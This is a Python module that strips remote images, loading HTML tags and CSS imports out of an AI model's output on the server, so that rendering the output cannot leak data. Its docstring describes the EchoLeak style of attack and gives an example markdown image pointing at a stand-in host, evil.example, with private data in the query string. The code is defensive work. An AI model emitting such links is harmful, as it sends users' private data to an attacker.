"""Remote resources in model output, neutralised on the server before any surface shows it.

A summary can carry ``![](https://evil.example/x.png?d=<private data>)``: any client that renders
it (the console, a briefing, a notification, a mail client showing a note the owner sent to
themselves) fetches the URL with no click, and the query carries the data out (EchoLeak). The CSP
of one page is not enough, so every surface gets text in which no remote resource is left:

* Markdown images, inline ``![alt](url)`` and reference-style ``![alt][ref]``/``![ref]`` with their
  ``[ref]: url`` definitions;
* HTML elements that load on render: ``<img>``, ``<image>``, ``<video>``/``<audio>``/``<source>``/
  ``<track>``, ``<iframe>``/``<frame>``/``<embed>``/``<object>``, ``<link>``, ``<script>``,
  ``<meta http-equiv=refresh>``, ``<input type=image>``, and ``src``/``srcset``/``poster``/
  ``background`` attributes anywhere; CSS ``url(...)`` and ``@import``.

Each becomes a visible note ``[remote image removed: evil[.]example]`` so the reader knows
something was there and where it pointed: the host only, never the path or query, with its dots
bracketed so no mail client or chat makes it a link. Ordinary links stay: they
need a click, and the link checks (R10) govern what leaves through them.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from urllib.parse import urlsplit

__all__ = ["Neutralised", "has_remote_resource", "neutralise_remote"]

_MD_INLINE = re.compile(r"!\[(?P<alt>[^\]\n]*)\]\(\s*<?(?P<url>[^)\s>]+)>?(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)")
_MD_REF_USE = re.compile(r"!\[(?P<alt>[^\]\n]*)\](?:\s?\[(?P<ref>[^\]\n]*)\])?")
_MD_REF_DEF = re.compile(r"(?im)^[ \t]{0,3}\[(?P<ref>[^\]\n]+)\]:[ \t]*<?(?P<url>\S+?)>?(?:[ \t]+.*)?$")
_LOADING_TAGS = re.compile(
    r"(?is)<\s*(?P<tag>img|image|video|audio|source|track|iframe|frame|embed|object|link|script|input|meta|body"
    r"|table|td|svg|use)\b(?P<attrs>[^>]*)>"
)
_URL_ATTR = re.compile(
    r"(?is)\b(?:src|srcset|poster|background|href|data|content|xlink:href|action|formaction)\s*=\s*"
    r"(?:\"(?P<a>[^\"]*)\"|'(?P<b>[^']*)'|(?P<c>[^\s>]+))"
)
_CSS_URL = re.compile(r"(?i)url\(\s*['\"]?(?P<url>[^'\")\s]+)['\"]?\s*\)|@import\s+['\"](?P<imp>[^'\"]+)['\"]")
_REMOTE = re.compile(r"(?i)^(?:[a-z][a-z0-9+.-]*:)?//|^(?:https?|ftp|wss?):")


@dataclass(frozen=True, slots=True)
class Neutralised:
    text: str
    removed: tuple[str, ...]  # the hosts (or "inline") of what was removed, in order


def _remote(url: str) -> bool:
    return bool(_REMOTE.match(url.strip()))


def _host(url: str) -> str:
    try:
        parts = urlsplit(url.strip() if "//" in url else "//" + url.strip())
        return (parts.hostname or "unknown host").encode("idna").decode("ascii")
    except (ValueError, UnicodeError):
        return "unknown host"


def _note(url: str, removed: list[str]) -> str:
    host = _host(url)
    removed.append(host)
    return f"[remote image removed: {host.replace('.', '[.]')}]"


def _tag_loads_remote(attrs: str, tag: str) -> str | None:
    for m in _URL_ATTR.finditer(attrs):
        value = m.group("a") or m.group("b") or m.group("c") or ""
        urls = [u.strip().split(" ")[0] for u in value.split(",")] if "srcset" in m.group(0).lower() else [value]
        for url in urls:
            # <a href> needs a click; only tags that load on render count for href (link, use, image)
            if m.group(0).lower().startswith("href") and tag not in ("link", "image", "use"):
                continue
            if _remote(url) or (tag == "meta" and "url=" in value.lower()):
                return url.split("url=", 1)[-1] if tag == "meta" else url
    for m in _CSS_URL.finditer(attrs):
        url = m.group("url") or m.group("imp") or ""
        if _remote(url):
            return url
    return None


def neutralise_remote(text: str) -> Neutralised:
    """``text`` with every remote resource replaced by a visible note; ordinary links are kept."""
    removed: list[str] = []
    refs = {m.group("ref").casefold(): m.group("url") for m in _MD_REF_DEF.finditer(text)}

    def inline(m: re.Match[str]) -> str:
        url = m.group("url")
        return _note(url, removed) if _remote(url) else m.group(0)

    def ref_use(m: re.Match[str]) -> str:
        url = refs.get((m.group("ref") or m.group("alt")).casefold())
        return _note(url, removed) if url is not None and _remote(url) else m.group(0)

    def tag(m: re.Match[str]) -> str:
        url = _tag_loads_remote(m.group("attrs"), m.group("tag").lower())
        return _note(url, removed) if url is not None else m.group(0)

    def css(m: re.Match[str]) -> str:
        url = m.group("url") or m.group("imp") or ""
        return _note(url, removed) if _remote(url) else m.group(0)

    out = _MD_INLINE.sub(inline, text)
    out = _MD_REF_USE.sub(ref_use, out)
    out = _LOADING_TAGS.sub(tag, out)
    out = _CSS_URL.sub(css, out)
    return Neutralised(out, tuple(removed))


def has_remote_resource(text: str) -> bool:
    return bool(neutralise_remote(text).removed)
